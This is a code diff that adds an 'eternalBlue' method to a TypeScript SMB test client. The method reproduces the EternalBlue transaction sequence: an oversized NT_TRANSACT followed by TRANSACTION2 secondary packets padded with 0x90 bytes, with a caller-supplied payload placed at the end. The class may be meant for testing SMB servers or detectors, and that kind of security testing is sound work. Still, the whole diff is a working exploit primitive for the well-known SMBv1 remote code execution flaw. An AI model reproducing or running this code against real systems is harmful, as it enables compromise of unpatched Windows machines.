@@ -169,6 +169,27 @@ export class SmbTestClient {
     return this.call(0x32, w.finish(), Buffer.concat([new Uint8Array(3), params, data]), { mid });
   }
 
+  /**
+   * EternalBlue's transaction sequence: an NT_TRANSACT (function 0) announcing 0x10fe8 bytes of data,
+   * continued by TRANSACTION2 secondaries carrying the rest; DATA ends up at the end of the last one.
+   */
+  async eternalBlue(data: Uint8Array, mid = 64): Promise<number> {
+    const total = 0x10fe8;
+    const first = new Uint8Array(0x3d0).fill(0x41);
+    const nt = new ByteWriter(64).u8(1).u16le(0).u32le(30).u32le(total).u32le(30).u32le(0).u32le(0).u32le(0).u32le(first.length).u32le(32 + 1 + 40 + 2).u8(1).u16le(0).u16le(0).finish();
+    const interim = await this.call(0xa0, nt, first, { mid });
+    let sent = first.length;
+    while (sent < total) {
+      const n = Math.min(4000, total - sent);
+      const chunk = new Uint8Array(n).fill(0x90);
+      if (sent + n >= total) chunk.set(data.subarray(0, n), Math.max(0, n - data.length));
+      const w = new ByteWriter(32).u16le(30).u16le(total & 0xffff).u16le(0).u16le(0).u16le(0).u16le(n).u16le(32 + 1 + 18 + 2).u16le(sent).u16le(0).finish();
+      this.sendRaw(this.request(0x33, w, chunk, { mid }));
+      sent += n;
+    }
+    return interim.status;
+  }
+
   close(): void {
     this.sock.destroy();
   }
